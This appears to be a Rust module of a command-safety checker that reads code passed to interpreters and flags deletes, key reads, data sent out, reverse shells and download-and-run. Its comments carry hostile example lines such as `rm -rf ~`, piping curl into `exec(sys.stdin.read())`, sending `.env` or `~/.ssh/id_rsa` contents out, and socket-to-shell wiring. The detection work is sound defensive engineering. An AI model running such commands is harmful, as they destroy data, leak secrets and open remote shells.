//! The law for code inside interpreters: what `law::code` reads a program to do, judged as
//! the shell's rules judge the same act. A command line it runs is a shell line of its own
//! (every rule reads it); a delete is `rm -r -f PATH`; a file written goes through the
//! shell's write rule; a key read is a key read; a request that sends, or that carries what
//! the code read from a file or its standard input, is a send to its host (the file's own
//! risk too, when it holds keys or the project's secrets); a raw connection is one (with the
//! files the code reads), and wired to a shell it is a reverse shell; code fetched and run is
//! a download run without reading. What is only known when the code runs is the shell's
//! unknown. sqlite3's and duckdb's `.shell` lines are shell lines too.

use super::Scan;
use super::net;
use crate::catalogue::Language;
use crate::law::code::{self, Origin, Reading, Sent};
use crate::law::rule::RuleId;
use crate::shell::Command;
use crate::verdict::{Harm, Risk};
use crate::wish::{Act, Name, Wish};

/// Reads the code a command runs (or writes to a file) and adds what its acts risk; the
/// command lines it runs, for the caller to judge as lines of their own, and apart from
/// them the lines of code it only writes to a file (`echo … > x.py`, `cat > x.go <<EOF`),
/// of which the caller keeps what is severe, as a file tool's write of the same text
/// (`file::severe_only`): writing code is most of the work, and a push or an install in a
/// script written is not one made.
pub(super) fn judge(cmd: &Command, scan: &mut Scan<'_>) -> (Vec<String>, Vec<String>) {
    // A client's shell escape, sed's `e`, a makefile on the input, Emacs Lisp: shell lines,
    // and no code of a language to read.
    let escaped = super::escapes::lines(cmd, scan.line);
    if !escaped.is_empty() {
        return (escaped, Vec::new());
    }
    let mut lines = Vec::new();
    let mut written = Vec::new();
    for source in code::sources(cmd, scan.line) {
        let dropped = source.origin == Origin::Dropped;
        if source.dynamic {
            scan.add(unknown(format!(
                "{} runs code that is only known when it runs ({})",
                who(cmd),
                source.code.trim()
            )));
            scan.changes = true;
        }
        let mut reading = code::read(source.lexicon, &source.code);
        with_arguments(
            &mut reading,
            &argument_names(source.lexicon.language, &source.code),
            cmd.words.first().map_or("", String::as_str),
            &source.arguments,
        );
        // Words that name a socket and a command run, where the reader found no shell wired
        // to a socket (`apply`), but could not read all of the code or found no command run
        // at all: the run it missed may be the shell (Crystal's `Process.new(m, shell:
        // true)` read with Ruby's names), as for code no reader reads
        // (`net::interpreter_code`). A run the reader found, apart from a socket it found
        // or none (a free port found, then a server run; `socket.gethostname()`), is none.
        if !dropped
            && (reading.unknown.is_some() || reading.runs.is_empty())
            && !wires_shell(&reading)
            && net::wires_shell_by_words(&source.code)
        {
            net::reverse(
                scan,
                &format!("{} code that wires a shell to a network socket", who(cmd)),
            );
            scan.network = true;
        }
        if !dropped && let Some(text) = reading.unknown_evals.first() {
            scan.add(unknown(format!(
                "{} runs code that is only known when it runs ({})",
                who(cmd),
                text.trim()
            )));
            scan.changes = true;
        }
        // Its input run as code, fed by a download (`curl … | python3 -c
        // "exec(sys.stdin.read())"`): a download piped to an interpreter. So is a program
        // that reads its input and runs code or a command only known when it runs
        // (`process.stdin.on('data', d => s += d).on('end', () => eval(s))`).
        let runs_input = reading.runs_stdin
            || (reading.stdin
                && (!reading.unknown_evals.is_empty() || reading.runs.iter().any(|r| !r.known)));
        let fed_by = runs_input.then(|| {
            scan.pipeline(cmd.pipeline)
                .filter(|c| c.stage < cmd.stage && net::is_downloader(c.program()))
                .find_map(|c| c.args().iter().find_map(|a| net::url_host(a)))
        });
        if let Some(Some(host)) = fed_by {
            pipe_shell(scan, Some(&host), &who(cmd));
        }
        let found = apply(&reading, source.origin, cmd, scan);
        if dropped {
            written.extend(found);
        } else {
            lines.extend(found);
        }
    }
    (lines, written)
}

/// What the reader names a program's own arguments by, only known when it runs: `sys.argv`,
/// `process.argv`, `@ARGV`, `ARGV`, `$argv` and awk's `ARGV` in every language, Perl's bare
/// `shift` in code with no function (where it takes `@ARGV`), Lua's `arg` and R's
/// `commandArgs()`.
fn argument_names(language: Language, code: &str) -> Vec<&'static str> {
    let mut names = vec!["${argv}"];
    match language {
        Language::Perl if !code.contains("sub") => names.push("${shift}"),
        Language::Lua => names.push("${arg}"),
        Language::R => names.push("${commandargs}"),
        _ => {}
    }
    names
}

/// What the code does with its arguments, read with the words the line gives it: each act
/// that names them is read once for each word, once for all of them (`subprocess.run(
/// sys.argv[1:])`), and once for the interpreter's own name (what `process.argv[0]` is), in
/// its place: `python3 -c 'import shutil, sys; shutil.rmtree(sys.argv[1])' ~` deletes the
/// home folder, and `… build` the work folder's `build`. Which word an index picks is not
/// followed, so each is read; an index past the last fails before the act. Without words
/// given, the act stays only known when it runs.
fn with_arguments(reading: &mut Reading, names: &[&str], program: &str, arguments: &[String]) {
    if arguments.is_empty() {
        return;
    }
    let put = |text: &str, word: &str| {
        names
            .iter()
            .fold(text.to_string(), |text, name| text.replace(name, word))
    };
    let names = |text: &str| names.iter().any(|name| text.contains(name));
    // As a shell word: written out when the shell would read it the same bare (a `~` the
    // outer shell left is still the home folder), else in single quotes.
    let shell_word = |word: &str| {
        let bare = !word.is_empty()
            && word
                .bytes()
                .all(|b| b.is_ascii_alphanumeric() || b"/._-+=:,@%~".contains(&b));
        if bare {
            word.to_string()
        } else {
            format!("'{}'", word.replace('\'', "'\\''"))
        }
    };
    let mut candidates: Vec<(String, String)> = arguments
        .iter()
        .chain(std::iter::once(&program.to_string()))
        .map(|word| (word.clone(), shell_word(word)))
        .collect();
    if arguments.len() > 1 {
        let all: Vec<String> = arguments.iter().map(|w| shell_word(w)).collect();
        candidates.push((arguments.join(" "), all.join(" ")));
    }
    let runs = std::mem::take(&mut reading.runs);
    for run in runs {
        if !names(&run.line) {
            reading.runs.push(run);
            continue;
        }
        for (_, word) in &candidates {
            let line = put(&run.line, word);
            reading.runs.push(code::Run {
                known: !line.contains("${"),
                line,
                program: run.program.clone(),
            });
        }
    }
    let deletes = std::mem::take(&mut reading.deletes);
    for removal in deletes {
        if !names(&removal.path) {
            reading.deletes.push(removal);
            continue;
        }
        for (_, word) in candidates.iter().take(arguments.len() + 1) {
            reading.deletes.push(code::Removal {
                path: put(&removal.path, word),
                ..removal.clone()
            });
        }
    }
    for paths in [&mut reading.writes, &mut reading.reads] {
        let named: Vec<String> = paths.iter().filter(|p| names(p)).cloned().collect();
        paths.retain(|p| !names(p));
        for path in named {
            for (word, _) in candidates.iter().take(arguments.len() + 1) {
                paths.push(put(&path, word));
            }
        }
    }
}

/// The lines in code of a language warden has no reader of its own grammar for (an
/// interpreter of the catalogue that says nothing of how it takes code: `erl -eval`, `ghc
/// -e`, `racket -e`, `sbcl --eval`, `zx`; one read only by the C-like reader: `kotlin -e`,
/// `swift -e`, `groovy -e`; a source file of such a language written with its text: `cat >
/// main.go <<EOF`): each literal text in its arguments and its input, double-quoted or in
/// backticks, that reads as a command line (a known program, or a path, and a word after
/// it). The caller keeps only what is severe and lasting there, or never lifted: what the
/// code does with the text is not read, so `(system "rm -rf ~")` and `(display "rm -rf ~")`
/// are alike.
pub(super) fn unread_lines(cmd: &Command, scan: &Scan<'_>) -> (Vec<String>, bool) {
    const MAX_LINES: usize = 64;
    // A source file of such a language written with its text (`cat > main.go <<EOF`).
    if let Some((target, text)) = code::written_code(cmd, scan.line) {
        if !code::is_unread_source(&target) {
            return (Vec::new(), false);
        }
        return command_literals(std::iter::once(text.as_str()), MAX_LINES);
    }
    let Some(found) = crate::catalogue::program(cmd.program()) else {
        return (Vec::new(), false);
    };
    let unread = found
        .code
        .is_none_or(|taken| !code::has_own_reader(taken.language));
    if !found.is(crate::catalogue::Class::Interpreter) || !unread {
        return (Vec::new(), false);
    }
    let mut texts: Vec<String> = cmd.args().to_vec();
    texts.extend(code::stdin_text(cmd, scan.line));
    command_literals(texts.iter().map(String::as_str), MAX_LINES)
}

/// The literal texts of `texts` (between double quotes or backticks) that read as command
/// lines: a program the catalogue knows, or one by its path, then words. At most `bound`;
/// past it, `true` (the rest is not read, and the caller asks).
pub(crate) fn command_literals<'t>(
    texts: impl Iterator<Item = &'t str>,
    bound: usize,
) -> (Vec<String>, bool) {
    let mut out = Vec::new();
    for text in texts {
        let found = literals(text);
        // A program and its words given as texts one after another (`Seq("rm", "-rf",
        // home)`, `listOf("sh", "-c", "…")`): the words, each quoted, and anything between
        // them that isn't a text a word only known when it runs.
        let mut lines: Vec<String> = Vec::new();
        let mut at = 0;
        while at < found.len() {
            let (first, _, end) = &found[at];
            let mut end = *end;
            let mut words = vec![crate::shell::quote_word(first)];
            let mut next = at + 1;
            while let Some((word, start, stop)) = found.get(next) {
                let between = text.get(end..*start).unwrap_or("");
                if between.trim() != "," {
                    // One argument more that isn't a text, then the list's end.
                    let rest = between.trim().trim_start_matches(',').trim();
                    if !rest.is_empty() && !rest.contains([')', ']', '}', ';', '\n']) {
                        // An expression that names the home folder (`sys.props("user.home")`,
                        // `getHomeDir()`, `System.getenv("HOME")`) is taken to be it: a
                        // delete given it asks, whatever the language's own name for it.
                        let home = rest.to_ascii_lowercase().contains("home")
                            || word.to_ascii_lowercase().contains("home");
                        words.push(if home { "~" } else { "\"$UNKNOWN\"" }.to_string());
                    }
                    break;
                }
                words.push(crate::shell::quote_word(word));
                end = *stop;
                next += 1;
            }
            let program = words.len() > 1 && !first.contains(' ') && names_program(first);
            if program {
                lines.push(words.join(" "));
            }
            lines.push(first.clone());
            // The words a program took are its own; texts after one that names none are each
            // looked at (`["-c", "rm -rf ~"]`).
            at = if program { next } else { at + 1 };
        }
        for literal in lines {
            let first = literal.split_whitespace().next().unwrap_or("");
            if names_program(first.trim_matches('\'')) && literal.contains(' ') {
                // Past the bound the rest is not read: the caller asks (fail closed).
                if out.len() == bound {
                    return (out, true);
                }
                out.push(literal);
            }
        }
    }
    (out, false)
}

/// Does `word` name a program: one the catalogue knows, or one by its path?
fn names_program(word: &str) -> bool {
    word.starts_with('/') || crate::catalogue::program(word).is_some()
}

/// The texts between double quotes or backticks, a backslash escaping the next character.
/// Linear in the text.
fn literals(text: &str) -> Vec<(String, usize, usize)> {
    let mut out = Vec::new();
    let mut chars = text.char_indices();
    while let Some((open, c)) = chars.next() {
        if c != '"' && c != '`' {
            continue;
        }
        let mut literal = String::new();
        let mut closed = None;
        while let Some((at, next)) = chars.next() {
            if next == '\\' {
                if let Some((_, escaped)) = chars.next() {
                    literal.push(escaped);
                }
            } else if next == c {
                closed = Some(at + 1);
                break;
            } else {
                literal.push(next);
            }
        }
        if let Some(end) = closed {
            out.push((literal, open, end));
        }
    }
    out
}

/// The interpreter as the command names it (`Rscript`, `python3`), for reasons.
fn who(cmd: &Command) -> String {
    let word = cmd.words.first().map(String::as_str).unwrap_or("");
    let name = crate::law::paths::basename(word);
    if name.is_empty() {
        cmd.program().to_string()
    } else {
        name.to_string()
    }
}

fn unknown(reason: String) -> Risk {
    Risk::new(RuleId::ShellUnknown, Harm::Moderate, true, reason)
}

fn apply(reading: &Reading, origin: Origin, cmd: &Command, scan: &mut Scan<'_>) -> Vec<String> {
    let program = who(cmd);
    let who = program.as_str();
    let mut lines = Vec::new();
    for run in &reading.runs {
        if origin == Origin::Dropped && !run.known {
            continue;
        }
        let whole_unknown = {
            let line = run.line.trim();
            line.starts_with("${")
                && line.ends_with('}')
                && line.matches("${").count() == 1
                && !line.starts_with("${HOME}")
        };
        if whole_unknown {
            scan.add(unknown(format!(
                "{who} code runs a command that is only known when it runs ({})",
                run.line.trim()
            )));
            scan.changes = true;
            continue;
        }
        lines.push(run.line.clone());
    }
    for removal in &reading.deletes {
        if origin == Origin::Dropped
            && removal.path.contains("${")
            && !removal.path.starts_with("${HOME}")
        {
            continue;
        }
        let flags = if removal.tree { "-r -f" } else { "-f" };
        lines.push(format!("rm {flags} -- {}", removal.path));
    }
    if origin == Origin::Dropped {
        return lines;
    }
    if let Some(why) = &reading.unknown {
        let reason = format!("the {who} code could not be read fully ({why})");
        // What the reader gave up on may be what does harm (a delete past the 64 KB read):
        // code that names what runs, deletes or reaches the network asks before reading
        // too, as an unreadable command line that names a dangerous program does. A syntax
        // error the interpreter refuses too runs nothing: moderate.
        scan.add(if reading.gave_up {
            Risk::new(
                RuleId::ShellUnknown,
                Harm::Severe,
                true,
                format!("{reason}, and it names what runs, deletes or reaches the network"),
            )
        } else {
            unknown(reason)
        });
    }
    keys_read(reading, who, scan);
    for write in &reading.writes {
        let place = scan.place;
        super::paths::write(write, cmd, place, scan);
    }
    let mut sent = reading.reads.clone();
    if reading.stdin {
        sent.extend(piped_files(cmd, scan));
    }
    network(reading, &sent, who, scan);
    lines.extend(outputs_sent(reading));
    lines.extend(addresses_built(reading));
    lines.extend(headers_built(reading));
    lines
}

/// Text the code builds with a value only known when it runs (`${name}`) that a shell line
/// can hold between double quotes as it is: no quote, backtick, backslash or `$(…)` in it.
fn quotable_unknown(text: &str) -> bool {
    text.contains("${") && !text.contains(['"', '`', '\\']) && !text.contains("$(")
}

/// A header the code builds with a value only known when it runs, as curl would send it,
/// for the shell's rules to read what the value's name says (`requests.get("https://x/",
/// headers={"Authorization": "token " + os.environ["GITHUB_TOKEN"]})` is `curl -H
/// "Authorization: token ${github_token}" https://x/`).
fn headers_built(reading: &Reading) -> Vec<String> {
    reading
        .requests
        .iter()
        .filter_map(|request| Some((request.host.as_deref()?, &request.headers)))
        .flat_map(|(host, headers)| {
            headers
                .iter()
                .filter(|h| quotable_unknown(h))
                .map(move |h| format!("curl -s -H \"{h}\" https://{host}/"))
        })
        .take(8)
        .collect()
}

/// An address the code builds with a value only known when it runs, as curl would ask for
/// it, for the shell's rules to read what the value's name says (`urlopen("https://x/?k=" +
/// os.environ["AWS_SECRET_ACCESS_KEY"])` is `curl "https://x/?k=${aws_secret_access_key}"`:
/// a secret in an address). Only an address the shell reads as the one text it is.
fn addresses_built(reading: &Reading) -> Vec<String> {
    reading
        .requests
        .iter()
        .filter(|request| request.host.is_some() && quotable_unknown(&request.url))
        .take(8)
        .map(|request| format!("curl -s \"{}\"", request.url))
        .collect()
}

/// What a command the code runs prints, sent by a request of the same code (`get("https://x/?d="
/// . `cat .env`)`, `urlopen(url + check_output(['cat', '.env']).hex())`): a line of its own,
/// the command piped to a request to the same host, for the shell's rules to judge what
/// leaves.
fn outputs_sent(reading: &Reading) -> Vec<String> {
    let mut lines = Vec::new();
    for request in &reading.requests {
        let Some(host) = request.host.as_deref() else {
            continue;
        };
        // What the request carries, in its body or its address (read.rs puts the data of
        // an address among its files too).
        for line in request
            .files
            .iter()
            .flatten()
            .filter_map(|f| output_line(f))
        {
            if lines.len() < 8 {
                lines.push(format!("{line} | curl -s --data-binary @- https://{host}/"));
            }
        }
    }
    lines
}

/// The command line of a command's output, `$(LINE)` (up to its balanced `)`).
fn output_line(word: &str) -> Option<&str> {
    let rest = word.strip_prefix("$(")?;
    let mut depth = 1usize;
    for (at, c) in rest.char_indices() {
        match c {
            '(' => depth += 1,
            ')' => {
                depth -= 1;
                if depth == 0 {
                    return rest.get(..at).filter(|line| !line.trim().is_empty());
                }
            }
            _ => {}
        }
    }
    None
}

/// The files a command's standard input holds: its `<` redirect, or what the stages before
/// it in its pipeline read (`cat .env | python3 -c '…sys.stdin…'`).
fn piped_files(cmd: &Command, scan: &Scan<'_>) -> Vec<String> {
    let mut out: Vec<String> = cmd
        .redirects
        .iter()
        .filter(|r| r.op == crate::shell::RedirectOp::Read)
        .map(|r| r.target.clone())
        .collect();
    if cmd.stage > 0 {
        for before in scan.pipeline(cmd.pipeline).filter(|c| c.stage < cmd.stage) {
            if crate::catalogue::is(before.program(), crate::catalogue::Class::ReadOnly) {
                out.extend(
                    super::positional(before.args())
                        .iter()
                        .map(|a| (*a).to_string()),
                );
            }
        }
    }
    out
}

/// Is part of an address's path or query only known when the code runs (`${…}` after its
/// host)?
fn built_after_host(url: &str) -> bool {
    let Some((_, rest)) = url.split_once("://") else {
        return false;
    };
    rest.find(['/', '?'])
        .is_some_and(|at| rest.get(at..).is_some_and(|tail| tail.contains("${")))
}

/// A key or credential file the code reads: read is enough, as `cat ~/.ssh/id_rsa` is.
fn keys_read(reading: &Reading, who: &str, scan: &mut Scan<'_>) {
    for path in &reading.reads {
        if let Some(abs) = scan.place.resolve(path)
            && super::paths::is_key_at(&abs, &scan.place)
        {
            net::key_leaves(scan, &format!("read {abs} with {who}"));
            return;
        }
    }
}

fn network(reading: &Reading, sent_files: &[String], who: &str, scan: &mut Scan<'_>) {
    let reaches = !reading.requests.is_empty()
        || !reading.connects.is_empty()
        || reading.socket
        || !reading.fetched_runs.is_empty();
    if !reaches {
        return;
    }
    scan.network = true;
    // One host named anywhere: a request whose own address is built at run time goes there.
    let mut hosts: Vec<&str> = reading
        .requests
        .iter()
        .filter_map(|r| r.host.as_deref())
        .chain(reading.connects.iter().filter_map(|h| h.as_deref()))
        .collect();
    hosts.sort_unstable();
    hosts.dedup();
    let only = match hosts.as_slice() {
        [one] => Some((*one).to_string()),
        _ => None,
    };
    let reads_files = !sent_files.is_empty();
    // The piped files, for data read from standard input.
    let piped: Vec<&String> = sent_files
        .iter()
        .filter(|f| !reading.reads.contains(f))
        .collect();
    for request in &reading.requests {
        // An address built at run time by code that read files (`file_get_contents(
        // "https://x/?d=" . $data)`): what it read may be in the address.
        let built_from_reads = reads_files && built_after_host(&request.url);
        let sent = match request.sent {
            Sent::Get if reading.marked || !request.files.is_empty() || built_from_reads => {
                Sent::Send
            }
            sent => sent,
        };
        let sends = sent == Sent::Send;
        let mut files: Vec<String> = request
            .files
            .iter()
            .flat_map(|file| match file {
                Some(path) => vec![path.clone()],
                None => piped.iter().map(|p| (*p).clone()).collect(),
            })
            .collect();
        if files.is_empty() && built_from_reads {
            files = sent_files.to_vec();
        }
        let host = request
            .host
            .clone()
            .or_else(|| (sent != Sent::Get).then(|| only.clone()).flatten());
        let Some(host) = host else {
            if sends {
                unknown_send(&files, who, scan);
            }
            continue;
        };
        if net::is_local(&host) {
            continue;
        }
        if let Some(risk) = net::metadata_risk(&host) {
            scan.add(risk);
        }
        if sent == Sent::Delete {
            net::http_delete(scan, Some("DELETE"), &host, &request.url, false);
        }
        if sends {
            net::money(scan, &host, &request.url);
            for file in &files {
                net::file_leaves(scan, file, &host);
            }
            let how = if files.is_empty() {
                format!("{who} code sends data")
            } else {
                format!("{who} code sends {}", files.join(", "))
            };
            net::send(scan, &host, &how);
        } else if crate::secrets::carries_data(&request.url) {
            net::fetch_data(scan, &host);
        }
    }
    if wires_shell(reading) {
        net::reverse(
            scan,
            &format!("{who} code that wires a shell to a network socket"),
        );
    } else {
        for host in &reading.connects {
            match host {
                Some(host) if net::is_local(host) => {}
                Some(host) => {
                    if let Some(risk) = net::metadata_risk(host) {
                        scan.add(risk);
                    }
                    for file in sent_files {
                        net::file_leaves(scan, file, host);
                    }
                    let how = if reads_files {
                        format!("{who} code sends files it reads over a raw connection")
                    } else {
                        format!("{who} code opens a raw connection")
                    };
                    net::send(scan, host, &how);
                }
                None => unknown_send(sent_files, who, scan),
            }
        }
    }
    for host in &reading.fetched_runs {
        pipe_shell(scan, host.as_deref().or(only.as_deref()), who);
    }
    // Code only known when it runs, in a program that fetches from a host (`https.get(u, r
    // => { …; eval(d) })`): what it runs is what it may have fetched, as a download run.
    if !reading.unknown_evals.is_empty()
        && reading.fetched_runs.is_empty()
        && let Some(host) = reading
            .requests
            .iter()
            .find_map(|r| r.host.clone())
            .filter(|host| !net::is_local(host))
    {
        pipe_shell(scan, Some(&host), who);
    }
    // A file downloaded, then run by the same code: what it saves while it fetches is what
    // it fetched (`r.pipe(file)`), as `curl -o` is.
    let fetched_from = reading.requests.iter().find_map(|r| r.host.clone());
    let saved = reading
        .writes
        .iter()
        .filter(|_| fetched_from.is_some())
        .map(|file| (file, &fetched_from));
    for (file, host) in reading.downloads.iter().map(|(f, h)| (f, h)).chain(saved) {
        let name = crate::law::paths::basename(file);
        if name.is_empty() {
            continue;
        }
        let runs = reading.runs.iter().any(|run| {
            run.line
                .split(|c: char| c.is_whitespace() || c == '\'' || c == '"' || c == ';')
                .any(|word| crate::law::paths::basename(word) == name)
        }) || reading
            .ran_files
            .iter()
            .any(|ran| crate::law::paths::basename(ran) == name);
        if runs {
            pipe_shell(scan, host.as_deref().or(only.as_deref()), who);
        }
    }
}

/// A socket and a shell: descriptors wired (`dup2`, `pty.spawn`, `fdopen`), a process run
/// that is a shell or whose program is only known when it runs (a command read from the
/// socket), or code run that came over a raw connection (`subprocess.run(s.recv(1024),
/// shell=True)`). A known program given a value only known when it runs (`python3 -m
/// http.server PORT`) is not the socket's.
fn wires_shell(reading: &Reading) -> bool {
    if !reading.socket {
        return false;
    }
    reading.wires
        || reading
            .fetched_runs
            .iter()
            .any(|host| reading.connects.contains(host))
        || reading.runs.iter().any(|run| {
            run.program.is_none()
                || run
                    .program
                    .as_deref()
                    .is_some_and(|p| net::is_shell(program_name(p)))
        })
}

/// The name a run's program is found by: its quotes taken off, and its folders, `/` or
/// Windows' `\` (`\windows\system32\cmd.exe`).
fn program_name(program: &str) -> &str {
    let program = program.trim_matches(|c| c == '\'' || c == '"');
    program.rsplit(['/', '\\']).next().unwrap_or(program)
}

/// Data sent to an address only known when the code runs (a key or secret file too).
fn unknown_send(sent_files: &[String], who: &str, scan: &mut Scan<'_>) {
    let place = "an address only known when it runs";
    for file in sent_files {
        net::file_leaves(scan, file, place);
    }
    scan.add(
        Risk::new(
            RuleId::EgressSend,
            Harm::Moderate,
            true,
            format!("{who} code sends data to {place}"),
        )
        .way_out(),
    );
}

/// Code fetched and run without reading it first, as `curl … | sh` is.
fn pipe_shell(scan: &mut Scan<'_>, host: Option<&str>, who: &str) {
    let host = host.unwrap_or("an address");
    scan.add(
        Risk::new(
            RuleId::DownloadPipeShell,
            Harm::Severe,
            true,
            format!("{who} code runs code downloaded from {host} without reading it first"),
        )
        .way_out()
        .wish(Wish::new(Act::Run).naming(Name::AnyOf(super::host_names(host)))),
    );
}
